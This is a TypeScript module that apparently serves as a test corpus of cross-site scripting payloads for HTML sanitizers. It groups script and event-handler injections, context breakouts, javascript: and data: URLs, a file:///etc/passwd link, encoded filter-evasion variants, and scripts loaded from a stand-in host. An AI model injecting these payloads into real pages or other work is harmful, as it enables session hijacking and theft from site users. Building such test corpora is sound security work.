import { CLOBBERING, MUTATIONS, STYLES } from './payloads-markup.ts';
import { BIDI_AND_BLANKS, MARKS, POLYGLOTS, TEMPLATES } from './payloads-text.ts';

/** Texts that have run in some page, or could. Code that runs calls `alert`. */
export interface Payload {
  readonly family: string;
  readonly text: string;
}

const CALL = 'alert(1)';
const IMAGE = `<img src=x onerror=${CALL}>`;
const SCRIPT = `<script>${CALL}</script>`;

/** Elements that run by themselves, with their triggers. */
const SELF_STARTERS: readonly string[] = [
  SCRIPT,
  `<script src=data:text/javascript,${CALL}></script>`,
  `<script type=module>${CALL}</script>`,
  `<script>/*<!--<script>*/${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script\n>${CALL}</script\n>`,
  `<script/x>${CALL}</script/x>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script defer src=//beacon.invalid/x.js></script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href=data:text/javascript,${CALL} /></svg>`,
  IMAGE,
  `<image src=x onerror=${CALL}>`,
  `<img src onerror=${CALL}>`,
  `<img src=x onerror="${CALL}"//>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img\tsrc=x\nonerror=${CALL}>`,
  `<img src="x"onerror="${CALL}">`,
  `<IMG SRC=x ONERROR=${CALL}>`,
  '<img src=x onerror=alert`1`>',
  `<img src=x onerror=top['al'+'ert'](1)>`,
  `<img src=x onerror="&#97;lert(1)">`,
  `<img src=x onerror=\\u0061lert(1)>`,
  `<img src=x onerror="javascript:${CALL}">`,
  `<img srcset=x onerror=${CALL}>`,
  `<picture><source srcset=x><img onerror=${CALL} src=x></picture>`,
  `<img loading=eager src=x onload=1 onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg onload=${CALL}//`,
  `<svg\fonload=${CALL}>`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<frameset onload=${CALL}>`,
  `<style onload=${CALL}></style>`,
  `<link rel=stylesheet href=data:, onload=${CALL}>`,
  `<link rel=stylesheet href=x onerror=${CALL}>`,
  `<iframe onload=${CALL}></iframe>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="${SCRIPT}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data=x onerror=${CALL}></object>`,
  `<embed src="javascript:${CALL}">`,
  `<embed src=x onload=${CALL}>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL} src=x></video>`,
  `<video onloadstart=${CALL} src=x></video>`,
  `<video poster=javascript:${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<audio autoplay onloadstart=${CALL} src=x>`,
  `<track default onerror=${CALL} src=x>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<button autofocus onfocus=${CALL}>`,
  `<x tabindex=1 autofocus onfocus=${CALL}>`,
  `<x contenteditable autofocus onfocusin=${CALL}>`,
  `<input type=image src=x onerror=${CALL}>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<dialog open onclose=${CALL}><form method=dialog><button>x</button></form></dialog>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<marquee behavior=alternate width=1 loop=1 onbounce=${CALL} onfinish=${CALL}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="javascript:/a/-${CALL}///"><a href=../x>x</a>`,
  `<x onanimationstart=${CALL} style="animation:none 1ms">x</x>`,
  `<style>@keyframes k{}</style><x style="animation-name:k" onanimationend=${CALL}>x</x>`,
  `<x ontransitionrun=${CALL} style="transition:all 1s">x</x>`,
  `<x oncontentvisibilityautostatechange=${CALL} style="display:block;content-visibility:auto">x</x>`,
  `<div onscrollend=${CALL} style="overflow:auto;height:1px"><p style="height:9px">x</div>`,
  `<template shadowrootmode=open>${IMAGE}</template>`,
  `<portal src="javascript:${CALL}" onload=${CALL}></portal>`,
  `<fencedframe onload=${CALL}></fencedframe>`,
];

/** Elements that run on a user's action, with the action. */
const TOUCHED_BY = [
  ...['onclick', 'onauxclick', 'ondblclick', 'oncontextmenu', 'onmouseover', 'onmousemove', 'onmouseenter'],
  ...[
    'onpointerdown',
    'onpointerrawupdate',
    'onpointerover',
    'ontouchstart',
    'onwheel',
    'onkeydown',
    'onbeforeinput',
  ],
  ...[
    'oncopy',
    'onpaste',
    'ondragstart',
    'ondrop',
    'onbeforetoggle',
    'onselectstart',
    'oninvalid',
    'onsearch',
  ],
] as const;
const TOUCHED = TOUCHED_BY.map((handler, index) => {
  const element = ['a', 'div', 'button', 'input', 'p'][index % 5];
  return `<${element} ${handler}=${CALL} draggable=true tabindex=0>x</${element}>`;
});

/** Ways out of the place a text was written into. */
const ENDINGS = [
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '`>',
    '/>',
    '-->',
    '--!>',
    ']]>',
    '?>',
    '%>',
    '*/',
    '}',
    '});',
    "');//",
    '\\");//',
  ],
  ...[
    '</textarea>',
    '</title>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '</select>',
    '</svg>',
    '</math>',
    '</iframe>',
  ],
];
const BREAKOUTS = ENDINGS.map((ending) => `${ending}${IMAGE}`);
const ATTRIBUTES = [
  ...[
    `" onmouseover="${CALL}`,
    `' onmouseover='${CALL}`,
    `\` onmouseover=${CALL} \``,
    `x onmouseover=${CALL}`,
  ],
  ...[`" autofocus onfocus="${CALL}" x="`, `"style="position:fixed;inset:0"onmouseover="${CALL}`],
  ...[
    `" srcdoc="${SCRIPT}`,
    `" href="javascript:${CALL}`,
    `x" onerror="${CALL}" src="x`,
    `\\" onfocus=\\"${CALL}`,
  ],
];

/** URLs that run, or point where no link of a visitor may. */
export const SCHEMES: readonly string[] = [
  ...[
    `javascript:${CALL}`,
    `JaVaScRiPt:${CALL}`,
    `javascript://%0a${CALL}`,
    `javascript://a.example/%0d%0a${CALL}`,
  ],
  ...[
    `\tjavascript:${CALL}`,
    `java\tscript:${CALL}`,
    `java\nscript:${CALL}`,
    `java\rscript:${CALL}`,
    ` javascript:${CALL}`,
  ],
  ...[
    `\u0001javascript:${CALL}`,
    `\u001fjavascript:${CALL}`,
    `\u00a0javascript:${CALL}`,
    `\ufeffjavascript:${CALL}`,
  ],
  ...[
    `javascript&colon;${CALL}`,
    `javascript&#58;${CALL}`,
    `&#106;avascript:${CALL}`,
    `&#x6A;avascript:${CALL}`,
  ],
  ...[`javascript%3A${CALL}`, `%6aavascript:${CALL}`, `jav&#x09;ascript:${CALL}`, `javascript:void(${CALL})`],
  ...[
    `javascript:"${IMAGE}"`,
    `javascript:/*https://a.example*/${CALL}`,
    `javascript:${CALL}//https://a.example`,
  ],
  ...[
    `vbscript:msgbox(1)`,
    `livescript:${CALL}`,
    `mocha:${CALL}`,
    `feed:javascript:${CALL}`,
    `view-source:javascript:${CALL}`,
  ],
  ...[
    `data:text/html,${SCRIPT}`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `data:,${SCRIPT}`,
  ],
  ...[
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
    `DATA:TEXT/HTML,${SCRIPT}`,
  ],
  ...[
    'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
    `data:text/html;charset=utf-7,+ADw-script+AD4-${CALL}`,
  ],
  ...[
    `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'>${SCRIPT}</x>`,
    `data:image/png,${SCRIPT}`,
  ],
  ...[
    `data:image/png;base64,AAAA"onerror="${CALL}`,
    `data:text/javascript,${CALL}`,
    `jar:https://a.example!/x.html`,
  ],
  ...[
    'file:///etc/passwd',
    'filesystem:https://a.example/temporary/x.html',
    'about:blank',
    'chrome://settings',
    'intent://x#Intent;end',
  ],
  ...[
    'ms-appinstaller:?source=https://a.example',
    'search-ms:query=x',
    'ws://a.example/x',
    '//beacon.invalid/x',
    '\\\\beacon.invalid\\x',
  ],
  ...[`https:javascript:${CALL}`, `ht\ntps://a.example/"onerror=${CALL}`, `https://a.example:x/${CALL}`],
];
const WAYS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
];
const LINKS = SCHEMES.map((address, index) => WAYS[index % WAYS.length]?.(address) ?? '');

/** The same markup in other encodings: decoding once too often runs it. */
const encoders: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replace(/[<>]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replace(/[<>]/g, (sign) => `&#0000${sign.charCodeAt(0)}`),
  (text) => text.replace(/[<>]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  (text) => text.replace(/[<>]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>]/g, (sign) => `\\x${sign.charCodeAt(0).toString(16)}`),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '%c0%bc').replaceAll('>', '%c0%be'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (text) => text.replaceAll('<', '\u{e003c}').replaceAll('>', '\u{e003e}'),
  (text) => text.replaceAll('<', '<\u200b').replaceAll('>', '\u200b>'),
];
const DISGUISED = [SCRIPT, IMAGE].flatMap((text) => encoders.map((encode) => encode(text)));

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  'runs by itself': SELF_STARTERS,
  'runs when touched': TOUCHED,
  'leaves its place': BREAKOUTS,
  'leaves its attribute': ATTRIBUTES,
  'an address': SCHEMES,
  'a link': LINKS,
  'in other clothes': DISGUISED,
  'turns into something else': MUTATIONS,
  styles: STYLES,
  'takes names of the page': CLOBBERING,
  marks: MARKS,
  templates: TEMPLATES,
  'directions and blanks': BIDI_AND_BLANKS,
  'several at once': POLYGLOTS,
};

/** Each text once. */
export const PAYLOADS: readonly Payload[] = [
  ...new Map(
    Object.entries(FAMILIES).flatMap(([family, texts]) => texts.map((text) => [text, { family, text }])),
  ).values(),
];
